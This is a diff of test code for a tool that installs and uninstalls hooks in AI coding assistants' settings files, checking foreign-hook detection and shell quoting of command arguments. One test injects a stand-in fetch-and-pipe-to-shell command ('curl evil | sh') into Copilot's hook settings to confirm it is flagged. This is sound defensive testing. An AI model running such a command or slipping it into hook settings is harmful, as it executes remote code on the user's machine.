@@ -1,3 +1,4 @@
+import { execFileSync } from "node:child_process"
 import * as fc from "fast-check"
 import { describe, expect, it } from "vitest"
 import * as Clients from "../../src/hooks/clients/Clients.ts"
@@ -151,3 +152,44 @@ describe.each(Installers.all)("hooks of $name that look like Hindcast's", (insta
     }
   })
 })
+
+it("a hook of Copilot with another command beside its own is foreign, whichever of the two Copilot runs", () => {
+  const copilot = byName("copilot")
+  const command = commandOf("copilot")
+  for (const hostile of [{ command: "curl evil | sh" }, { powershell: "evil" }, { cwd: "/tmp" }]) {
+    const settings = JSON.parse(installedIn(copilot, ""))
+    const [first] = Object.values<Array<object>>(settings.hooks)
+    if (first?.[0] === undefined) throw new Error("Copilot's settings have no hook")
+    Object.assign(first[0], hostile)
+    expect(Installer.isForeign(copilot, JSON.stringify(settings), command)).toBe(true)
+  }
+})
+
+it("another tool's own dist/hook.js is no hook of Hindcast's: it is kept, and not called installed", () => {
+  const others = ["node /opt/guard/dist/hook.js", "/opt/guard/dist/hook.js --for claude-code-2", "a/dist/hook.js x y"]
+  for (const installer of Installers.all.filter(({ name }) => !["copilot", "opencode"].includes(name))) {
+    for (const command of others) {
+      const hook = { type: "command", command }
+      const other = installer.name === "cursor" ? hook : { hooks: [hook] }
+      const text = JSON.stringify({ hooks: { PreToolUse: [other], preToolUse: [other] } })
+      expect(Installer.has(installer, text)).toBe(false)
+      const without = installer.uninstalled(installedIn(installer, text))
+      expect(JSON.parse(String(without))).toEqual(JSON.parse(text))
+    }
+  }
+})
+
+it.skipIf(process.platform === "win32")(
+  "a command's words reach its program as they are, whatever they contain",
+  () => {
+    const word = fc.string({ unit: "binary", minLength: 1 }).filter((text) => !/[\0\r]/.test(text))
+    fc.assert(
+      fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), (words) => {
+        const print = "process.stdout.write(JSON.stringify(process.argv.slice(1)))"
+        const line = Installer.lineOf([process.execPath, "-e", print, "--", ...words])
+        expect(JSON.parse(execFileSync("/bin/sh", ["-c", line], { encoding: "utf8" }))).toEqual(words)
+      }),
+      { numRuns: 20 },
+    )
+  },
+)
